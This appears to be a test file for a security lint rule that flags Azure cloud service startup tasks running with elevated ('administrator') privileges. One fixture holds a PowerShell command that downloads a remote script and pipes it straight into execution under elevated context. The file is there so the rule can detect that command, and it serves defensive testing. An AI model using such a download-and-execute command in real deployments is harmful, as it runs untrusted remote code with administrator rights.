import { csdef, ruleTester } from '../helpers/lint-harness.js';

const task = (attrs: string): string =>
  csdef(`  <WorkerRole name="W" vmsize="Standard_A1_v2">
    <Startup>
      <Task ${attrs} />
    </Startup>
  </WorkerRole>`);

ruleTester('SEC-elevated-startup-task', {
  valid: [
    { name: 'limited', files: { 'ServiceDefinition.csdef': task('commandLine="setup.cmd" executionContext="limited"') } },
    { name: 'the default is limited', files: { 'ServiceDefinition.csdef': task('commandLine="setup.cmd"') } },
  ],
  invalid: [
    {
      name: 'elevated',
      files: { 'ServiceDefinition.csdef': task('commandLine="setup.cmd" executionContext="elevated"') },
      errors: [
        {
          line: 4,
          column: 37,
          message: 'startup task "setup.cmd" of role "W" runs as administrator; use executionContext="limited" unless it must install or reconfigure the machine',
        },
      ],
    },
    {
      name: 'elevated and downloading',
      files: { 'ServiceDefinition.csdef': task('commandLine="powershell -c iwr https://example.com/i.ps1 | iex" executionContext="elevated"') },
      errors: [{ line: 4, column: 77, message: /runs as administrator and downloads remote content;/ }],
    },
  ],
});
